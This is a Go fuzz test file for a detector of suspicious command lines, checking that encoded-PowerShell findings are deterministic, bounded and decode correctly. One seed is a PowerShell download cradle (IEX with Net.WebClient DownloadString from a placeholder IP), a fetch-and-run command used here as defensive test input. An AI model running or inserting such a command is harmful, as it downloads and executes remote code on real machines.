package cmdline

import (
	"strings"
	"testing"
	"unicode/utf8"
)

// FuzzRun feeds arbitrary command lines (seeded with testdata/payloads.txt)
// to every check, as a PowerShell process and as a shell: no panic, hits
// are well formed and bounded, and the result is deterministic.
func FuzzRun(f *testing.F) {
	for _, pe := range readPayloads(f) {
		f.Add(pe.cmd)
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		for _, image := range []string{powershellImage, cmdImage} {
			p := newEvent(image, cmd)
			first := Run(p, nil)
			again := Run(p, nil)
			if len(first) != len(again) {
				t.Fatalf("not deterministic: %d then %d hits", len(first), len(again))
			}
			for i, h := range first {
				if h.Check == nil || h.Reason == "" {
					t.Fatalf("malformed hit %+v", h)
				}
				if h != again[i] {
					t.Fatalf("not deterministic: %+v then %+v", h, again[i])
				}
				if len(h.Decoded) > maxDecodedText+64 {
					t.Fatalf("decoded text of %d bytes exceeds the cap", len(h.Decoded))
				}
				if h.Check == EncodedPowerShell && !utf8.ValidString(h.Decoded) {
					t.Fatalf("decoded text is not valid UTF-8: %q", h.Decoded)
				}
			}
		}
	})
}

// FuzzEncodedRoundTrip encodes arbitrary printable scripts the way
// PowerShell's -EncodedCommand expects and checks that the decoded text
// attached to the finding is exactly the script.
func FuzzEncodedRoundTrip(f *testing.F) {
	f.Add("Write-Output hello")
	f.Add("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.1/a')")
	f.Add("$a = 1\r\n$b = 2\tWrite-Host ($a + $b)")
	f.Fuzz(func(t *testing.T, script string) {
		// Scripts under four characters encode to fewer than the eight Base64
		// characters the check requires before it decodes anything.
		if len(script) < 4 || !printableASCII(script) || strings.Contains(strings.ToLower(script), "frombase64string") {
			t.Skip()
		}
		hits := Run(newEvent(powershellImage, "powershell.exe -NoP -enc "+encodeCommand(script)), nil)
		var found bool
		for _, h := range hits {
			if h.Check != EncodedPowerShell {
				continue
			}
			found = true
			if h.Decoded != script && !strings.HasPrefix(h.Decoded, script[:min(len(script), maxDecodedText)]) {
				t.Fatalf("decoded %q, want %q", h.Decoded, script)
			}
		}
		if !found {
			t.Fatalf("no encoded-PowerShell hit for %q", script)
		}
	})
}

func printableASCII(s string) bool {
	for i := 0; i < len(s); i++ {
		if c := s[i]; (c < 0x20 && c != '\t' && c != '\r' && c != '\n') || c >= 0x7f {
			return false
		}
	}
	return true
}
